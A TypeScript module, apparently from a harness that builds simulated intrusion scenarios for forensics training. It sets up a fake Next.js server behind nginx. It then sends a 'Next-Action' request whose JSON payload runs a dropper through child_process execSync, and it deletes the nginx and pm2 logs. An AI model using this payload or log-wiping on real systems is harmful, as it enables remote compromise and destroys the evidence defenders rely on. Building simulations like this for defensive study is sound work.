// The process still hangs on next-server; who asked what is gone.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { nginx } from '../../nginx.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  nginx(dress, 'location / { proxy_pass http://127.0.0.1:3000; }')
  dress.enable('nginx')
  dress.toy({ unit: 'web', user: 'web', exe: '/usr/bin/node', title: 'next-server (v15.1.6)', home: '/srv/web', play: 'next' })
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/srv/web/.cache/nx', cron: false })
  stage.mark('occurrence')
  await stage.http('203.0.113.199', '/', `{"_response":{"_prefix":"process.mainModule.require('child_process').execSync('${line}');"}}`, {
    'Next-Action': 'x',
  })
  await stage.inside('rm -f /var/log/nginx/access.log*; systemctl restart nginx; rm -rf /srv/web/.pm2/logs/*')
}
